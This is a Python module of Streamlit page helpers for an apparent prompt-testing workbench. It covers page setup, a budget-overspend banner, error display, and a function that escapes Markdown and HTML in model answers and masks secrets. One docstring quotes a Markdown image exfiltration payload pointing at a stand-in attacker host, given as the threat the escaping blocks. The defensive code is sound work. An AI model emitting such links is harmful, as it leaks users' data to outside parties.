"""Small helpers shared by the pages (UI only: no SQL, no litellm)."""

from __future__ import annotations

import streamlit as st

from workbench import config  # noqa: F401  (offline switches before anything heavy)


def page_setup(title: str, icon: str = "🧪") -> None:
    st.set_page_config(page_title=f"{title} · Prompt Workbench", page_icon=icon, layout="wide")
    budget_banner()


def budget_banner() -> None:
    """A warning on every page once spend passes the budget set on the Dashboard."""
    from workbench import dashboard

    status = dashboard.budget_status()
    if status and status["exceeded"]:
        st.warning(
            f"Spend this {status['period']} is ${status['spent']:,.2f}, over the "
            f"${status['limit']:,.2f} budget (month projected at ${status['projected_month']:,.2f}). "
            "See the Dashboard.",
            icon="💸",
        )


def show_error(exc: Exception) -> None:
    st.error(str(exc))


def md_text(text) -> str:
    """Untrusted text (a model's answer, a row key, a provider's error) inside Markdown, shown as
    typed: Markdown and HTML syntax are escaped, so `![](http://attacker/?d=...)` stays text and
    the browser fetches nothing. Known secret values are masked too."""
    import re

    from workbench import secrets

    return re.sub(r"([\\`*_\[\]()<>#|~$!{}])", r"\\\1", str(secrets.mask(str(text))))
